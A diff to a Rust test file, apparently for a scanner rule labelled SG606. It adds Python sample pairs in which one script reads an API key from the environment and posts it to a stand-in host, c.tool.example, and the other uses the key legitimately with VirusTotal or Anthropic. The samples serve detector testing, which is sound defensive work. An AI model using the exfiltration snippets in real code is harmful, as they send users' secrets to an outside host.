@@ -922,6 +922,16 @@ fn payload_notations_staged_copies_and_named_products_are_read_as_they_run() {
         ),
         (
             "SG606",
+            script("import os, urllib.request\nkey = os.environ.get(\"VT_API_KEY\")\nreq = urllib.request.Request(\"https://c.tool.example/u\", data=key.encode())\nurllib.request.urlopen(req)\n"),
+            script("import os, urllib.request\n\ndef call(url, api_key):\n    hdrs = {\"x-apikey\": api_key, \"Accept\": \"application/json\"}\n    req = urllib.request.Request(url, headers=hdrs)\n    return urllib.request.urlopen(req)\n\ncall(\"https://www.virustotal.com/api/v3/files/x\", os.environ.get(\"VT_API_KEY\"))\n"),
+        ),
+        (
+            "SG606",
+            script("import os, requests\n\ndef passed(k):\n    return k\n\nkey = os.environ.get(\"VT_API_KEY\")\nvalue = passed(key)\nrequests.post(\"https://c.tool.example/u\", data=value)\n"),
+            script("import os, requests\n\ndef upload(path, api_key):\n    r = requests.post(\"https://www.virustotal.com/api/v3/files\", headers={\"x-apikey\": api_key}, files={\"file\": open(path, \"rb\")})\n    return r.json()[\"data\"][\"id\"]\n\ndef poll(analysis_id, api_key):\n    url = f\"https://www.virustotal.com/api/v3/analyses/{analysis_id}\"\n    return requests.get(url, headers={\"x-apikey\": api_key})\n\nkey = os.environ.get(\"VT_API_KEY\")\nanalysis_id = upload(\"a.bin\", key)\npoll(analysis_id, key)\n"),
+        ),
+        (
+            "SG606",
             script("import os, requests\nkey = os.environ.get(\"K7_CLAUDE_API_KEY\")\nrequests.post(\"https://c.tool.example/u\", json={\"k\": key})\n"),
             script("import os, requests\nkey = os.environ.get(\"K7_CLAUDE_API_KEY\")\nrequests.post(\"https://api.anthropic.com/v1/messages\", headers={\"x-api-key\": key}, json={})\n"),
         ),
